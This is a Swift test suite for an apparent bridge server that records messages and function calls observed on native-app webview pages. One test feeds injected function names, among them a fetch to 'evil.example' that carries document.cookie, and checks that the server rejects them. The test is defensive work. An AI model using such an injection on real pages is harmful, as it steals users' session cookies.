import BridgeProtocol
import BridgeTraffic
import TestSupport
import Testing
import WebFiles

@testable import BridgeServer

/// Pages of an app of its own, which are only observed.
@MainActor @Suite(.timeLimit(.minutes(4))) struct ObservationTests {
    private struct Greeting: ScriptMessage {
        static let name = "Greeting"
        let text: String
    }

    private static let phone =
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 "
        + "Hotwire Native iOS; Turbo Native iOS; bridge-components: [form]"

    private func observed(_ events: ObservedEntry.Event..., from seq: Int = 1) -> String {
        let entries = events.enumerated().map { ObservedEntry(seq: seq + $0, $1) }
        return PageClient.text(ObservedEntries(entries))
    }

    private func greeting(_ body: ScriptValue) -> ObservedEntry.Event {
        .message(handler: "nativeApp", name: nil, body: body)
    }

    @Test func recordsEntriesInOrder_andCallsNoHandler() async throws {
        try await withServer { server, address in
            let recorder = Recorder(server)
            let collector = server.collectBodies()
            let (page, response) = try await PageClient.attachDevice(port: address.port)
            #expect(response["result"]?["webView"]?.string == "device")
            page.send(
                observed(
                    greeting(["name": "Greeting"]),
                    .reply(of: 1, handler: "nativeApp", .success("yes"), milliseconds: 12.5),
                    .reply(of: 1, handler: "nativeApp", .failure(ObservedError("no")), milliseconds: 1),
                    .call(function: "window.bridge.register", arguments: ["c0ffee", ["a": 1]]),
                    .event(name: "turbo:visit", detail: [.init("action", "advance"), .init("page", "not this")])))
            #expect(try await page.next("method", "page.ack")["params"]?["seq"]?.number == 5)
            #expect(collector.bodies.isEmpty)
            let texts = recorder.records.dropFirst().map { String($0.description.dropFirst(14)) }
            #expect(
                texts == [
                    #"p1 → nativeApp  Greeting {}   observed"#, #"p1 ← nativeApp reply "yes" (12.5 ms)   replied"#,
                    #"p1 ← nativeApp reply error: no (-32003) (1.0 ms)   rejected"#,
                    #"p1 ← evaluate window.bridge.register("c0ffee",{"a":1})"#,
                    #"p1 → app turbo:visit {"action":"advance"}"#,
                ])
        }
    }

    /// A cassette repeats the calls of an app. A page must not put a script of its own there.
    @Test func callsOfOtherFunctions_areNotRecorded() async throws {
        let functions = [
            "/*evil*/fetch('http://evil.example/?'+document.cookie);void", "window.eval", "eval", "window.bridge",
            "window.bridge.a;alert", "window.bridge.", "window.bridges.register", "window.myApp.shared",
        ]
        try await withServer {
            $0.observed = ["myApp.bridge"]
        } _: { server, address in
            let recorder = Recorder(server)
            let (page, _) = try await PageClient.attachDevice(port: address.port)
            let others = functions.map { ObservedEntry.Event.call(function: $0, arguments: ["alert(1)"]) }
            let listened = ObservedEntry.Event.call(function: "listener.onmessage", arguments: ["x"])
            let last = ObservedEntry.Event.call(function: "window.myApp.bridge.go", arguments: [1])
            page.send(
                PageClient.text(
                    ObservedEntries((others + [listened, last]).enumerated().map { ObservedEntry(seq: $0 + 1, $1) })))
            _ = try await page.next("method", "page.ack")
            let sources = recorder.records.compactMap {
                if case .evaluate(_, let source) = $0.event { source } else { nil }
            }
            #expect(
                sources == [#"window.bridge("alert(1)")"#, #"listener.onmessage("x")"#, "window.myApp.bridge.go(1)"])
            #expect(try await recorder.problem("invalidParams").text.contains("/*evil*/fetch("))
        }
    }

    /// The list of the script and that of the daemon are the same.
    @Test func functionsThatTheScriptObserves_areRecorded() throws {
        let functions = ObservedFunctions(observed: [])
        let paths = try WebFiles.text(of: "bridge/observed-calls.js").matches(of: #/{ path: "([\w.]+)"/#).map(\.1)
        #expect(paths.count == 6)
        for path in paths { #expect(functions.contains("window.\(path).anything"), "\(path)") }
    }

    @Test func saysWhatIsKnownOfTheDevice() async throws {
        try await withServer { server, address in
            let recorder = Recorder(server)
            _ = try await PageClient.attachDevice(port: address.port, userAgent: Self.phone)
            let record = try await recorder.first { $0.device != nil }
            var expected = DeviceInfo(model: "iPhone", system: "iOS 18.5", framework: "Hotwire Native iOS")
            expected.id = "d1"
            #expect(record.device == expected)
            var writer = JSONWriter()
            record.write(to: &writer)
            #expect(writer.text.contains(#""device":true,"model":"iPhone","system":"iOS 18.5""#))
            #expect(TrafficRecord(line: writer.bytes)?.device == record.device)
            #expect(record.description.hasSuffix("p1 → page attached (iPhone, iOS 18.5, Hotwire Native iOS)"))
        }
    }

    @Test func saysWithWhatVerdictAMessageWouldBeDroppedHere() async throws {
        try await withServer { server, address in
            let recorder = Recorder(server)
            let dispatcher = ScriptMessageDispatcher()
            var count = 0
            dispatcher.on(Greeting.self) { _, _ in count += 1 }
            server.addHandler("nativeApp", .dispatcher(dispatcher))
            var device = JavascriptInterface()
            device.method("model") { "Pixel" }
            server.addJavascriptInterface(device, name: "Device")
            let (page, _) = try await PageClient.attachDevice(port: address.port)
            page.send(
                observed(
                    greeting(["name": "Greeting", "text": "hi"]), greeting(["name": "Greeting", "text": 7]),
                    greeting(["name": "Goodbye"]), .message(handler: "camera", name: nil, body: "take"),
                    .message(handler: "Device", name: "model", body: []),
                    .message(handler: "Device", name: "modell", body: [])))
            _ = try await page.next("method", "page.ack")
            let messages = recorder.records.filter { $0.event.kind == .message }
            #expect(
                messages.map { $0.here?.reason } == [nil, .undecodable, .unknownName, .noHandler, nil, .unknownMethod])
            #expect(messages[1].here?.at == "/text")
            #expect(messages[1].description.contains("observed; here it would be dropped: undecodable at /text"))
            #expect(count == 0)
            #expect(recorder.records.allSatisfy { $0.event.kind != .problem })
            var writer = JSONWriter()
            messages[1].write(to: &writer)
            #expect(TrafficRecord(line: writer.bytes)?.here == messages[1].here)
        }
    }

    @Test func recordsEachEntryOnce_whenThePageAttachesAgain() async throws {
        try await withServer { server, address in
            let recorder = Recorder(server)
            let (page, _) = try await PageClient.attachDevice(port: address.port)
            page.send(observed(greeting("1"), greeting("2")))
            _ = try await page.next("method", "page.ack")
            page.drop()
            let (again, response) = try await PageClient.attachDevice(port: address.port, resume: true)
            #expect(response["result"]?["lastSeq"]?.number == 2)
            again.send(observed(greeting("2"), greeting("3"), from: 2))
            _ = try await again.next("method", "page.ack")
            #expect(recorder.records.filter { $0.event.kind == .message }.count == 3)
        }
    }

    @Test func leavesThePagesOfThisAppAlone() async throws {
        try await withServer { server, address in
            var events = 0
            let scope = WebViewScope()
            scope.pageObserver = { _, _ in events += 1 }
            server.setScope(scope, for: "device")
            let (page, _) = try await PageClient.attachDevice(port: address.port)
            page.send(observed(greeting("1")))
            _ = try await page.next("method", "page.ack")
            #expect(events == 0)
            #expect(server.mainPage(of: "main") == nil)
            let (own, response) = try await PageClient.attach(port: address.port, origin: "http://localhost:3000")
            #expect(response["result"]?["webView"] == nil)
            own.drop()
        }
    }

    @Test func takesNoMessagesFromAnObservedPage_andNoEntriesFromAnother() async throws {
        try await withServer { _, address in
            let (device, _) = try await PageClient.attachDevice(port: address.port)
            device.send(PageClient.post("1", seq: 1))
            #expect(try await device.nextError()["code"]?.number == -32601)
            let (page, _) = try await PageClient.attach(port: address.port)
            page.send(observed(greeting("1")))
            #expect(try await page.nextError()["code"]?.number == -32601)
        }
    }

    /// Native code of its own app has handled them.
    @Test(arguments: ["/beacon", "/call"]) func takesNoMessagesOverHTTP(path: String) async throws {
        try await withServer { server, address in
            let (recorder, collector) = (Recorder(server), server.collectBodies())
            let attach = AttachPage(
                document: "device-2", webView: "main",
                frame: FrameInfo(url: "http://localhost/", origin: "http://localhost", isMainFrame: true),
                userAgent: "test", isDevice: true)
            let body =
                #"{"document":"device-2","attach":\#(attach.text),"messages":[\#(PageClient.post("1", seq: 1))]}"#
            let response = try await HTTPClient.request(
                "POST", path: path, port: address.port,
                headers: ["Origin: http://localhost", "Content-Type: application/json"], body: body)
            #expect(response.status == (path == "/call" ? 400 : 204), "\(response)")
            #expect(collector.bodies.isEmpty)
            if path == "/beacon" { _ = try await recorder.problem("badBeacon") }
            #expect(!recorder.records.contains { if case .message = $0.event { true } else { false } })
        }
    }

    @Test func namesWhatIsWrongWithAnEntry() async throws {
        try await withServer { _, address in
            let (device, _) = try await PageClient.attachDevice(port: address.port)
            device.tell("page.observed", #"{"entries":[{"seq":1,"kind":"event","name":"x"},{"seq":2,"kind":"y"}]}"#)
            let error = try await device.nextError()
            #expect(error["message"]?.string?.contains("/entries/1/kind") == true)
        }
    }
}
